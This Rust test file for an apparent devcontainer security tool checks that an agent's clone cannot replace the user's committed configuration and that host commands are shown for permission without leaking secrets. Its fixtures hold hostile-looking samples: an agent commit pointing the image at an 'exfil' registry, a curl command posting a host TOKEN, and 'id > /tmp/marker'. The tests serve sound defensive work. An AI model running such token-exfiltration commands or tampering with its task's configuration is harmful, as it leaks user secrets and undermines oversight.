use super::registries::committed_texts_of;
use super::*;

/// Attack 25, P6: a clone task's clone is the agent's to commit in, so its `HEAD` names
/// the agent's registry; the committed side is read in the user's repository at the task's
/// base (an object name: a ref name, the repository's to move, gives none), and a task of
/// several repositories has none.
#[test]
fn a_clone_tasks_committed_side_is_the_users_repository_at_the_tasks_base() {
    use crate::ops::load::CommittedSide;
    let run = |dir: &Path, args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(["-c", "user.name=u", "-c", "user.email=u@devcell.invalid"])
            .args(["-c", "commit.gpgsign=false"])
            .args(args)
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    let tmp = tempfile::tempdir().unwrap();
    let source = tmp.path().join("repo");
    let config = ".devcontainer/devcontainer.json";
    std::fs::create_dir_all(source.join(".devcontainer")).unwrap();
    run(&source, &["init", "-q", "-b", "main"]);
    std::fs::write(source.join(config), r#"{"image": "users.invalid/x:1"}"#).unwrap();
    run(&source, &["add", "-A"]);
    run(&source, &["commit", "-q", "-m", "user"]);
    let base = run(&source, &["rev-parse", "HEAD"]);
    let clone = tmp.path().join("clone");
    run(
        tmp.path(),
        &[
            "clone",
            "-q",
            source.to_str().unwrap(),
            clone.to_str().unwrap(),
        ],
    );
    let agents = r#"{"image": "127.0.0.1:18424/exfil/z:secret"}"#;
    std::fs::write(clone.join(config), agents).unwrap();
    run(&clone, &["commit", "-q", "-am", "agent"]);
    let file = host_path::resolve(&clone.join(config)).unwrap();
    // the clone's own `HEAD` is the agent's commit
    let own = committed_texts_of(&file, &clone, &CommittedSide::Workspace);
    assert_eq!(own, [Some(agents.to_string())]);
    let users = CommittedSide::Source {
        repository: source.clone(),
        revision: base.clone(),
    };
    let texts = committed_texts_of(&file, &clone, &users);
    assert_eq!(
        texts,
        [Some(r#"{"image": "users.invalid/x:1"}"#.to_string())]
    );
    for side in [
        CommittedSide::Source {
            repository: source.clone(),
            revision: "HEAD".into(),
        },
        CommittedSide::Nothing,
    ] {
        assert!(
            committed_texts_of(&file, &clone, &side).is_empty(),
            "{side:?}"
        );
    }
}
use serde_json::json;

/// An `initializeCommand` entry that substitutes to nothing (an unset `${localEnv:…}`) is
/// dropped from what runs; every other entry is still shown, and granted, as written by
/// its name, never as one fixed text whose grant would cover any command (attack M10).
#[test]
fn an_entry_that_substitutes_to_nothing_leaves_the_others_shown_as_written() {
    let profile = SecurityProfile::default();
    let ws = tempfile::tempdir().unwrap();
    let digest_of = |b: &str| {
        let mut loaded = LoadedConfiguration::empty();
        loaded.workspace_folder = ws.path().to_path_buf();
        loaded.raw = json!({"initializeCommand": {"a": "${localEnv:UNSET_X}", "b": b}});
        loaded.value = json!({"initializeCommand": {"a": "", "b": b}});
        let (_, requests) = host_commands(&loaded, &profile, &Grants::default()).unwrap();
        assert_eq!(requests.len(), 1, "{requests:?}");
        let shown = requests[0].to_string();
        assert!(shown.contains(b), "{shown}");
        match &requests[0].permission {
            security::Permission::HostCommand(c) => c.digest(),
            other => panic!("{other:?}"),
        }
    };
    assert_ne!(digest_of("echo x"), digest_of("id > /tmp/marker"));
}

/// The refusal of an `initializeCommand` that reads a host variable names the command as
/// written: the value is never printed before the user granted anything (spec-note 0440).
#[test]
fn a_host_command_request_never_shows_a_host_variables_value() {
    let mut loaded = LoadedConfiguration::empty();
    loaded.raw = json!({"initializeCommand": ["curl", "-d", "${localEnv:TOKEN}", "x"]});
    loaded.value = json!({"initializeCommand": ["curl", "-d", "s3cr3t", "x"]});
    let profile = SecurityProfile::default();
    let (stage, requests) = host_commands(&loaded, &profile, &Grants::default()).unwrap();
    let shown: Vec<String> = requests.iter().map(ToString::to_string).collect();
    assert_eq!(shown.len(), 1, "{shown:?}");
    assert!(shown[0].contains("'${localEnv:TOKEN}'"), "{shown:?}");
    assert!(!shown[0].contains("s3cr3t"), "{shown:?}");
    // what runs is the substituted command
    let ran = stage.unwrap().commands[0].command.entries()[0].1.argv();
    assert_eq!(ran, ["curl", "-d", "s3cr3t", "x"]);

    // without a host variable the request shows the substituted command
    loaded.raw = json!({"initializeCommand": "make ${localWorkspaceFolderBasename}"});
    loaded.value = json!({"initializeCommand": "make ws"});
    let (_, requests) = host_commands(&loaded, &profile, &Grants::default()).unwrap();
    assert!(
        requests[0].to_string().contains("`/bin/sh -c 'make ws'`"),
        "{}",
        requests[0]
    );
}
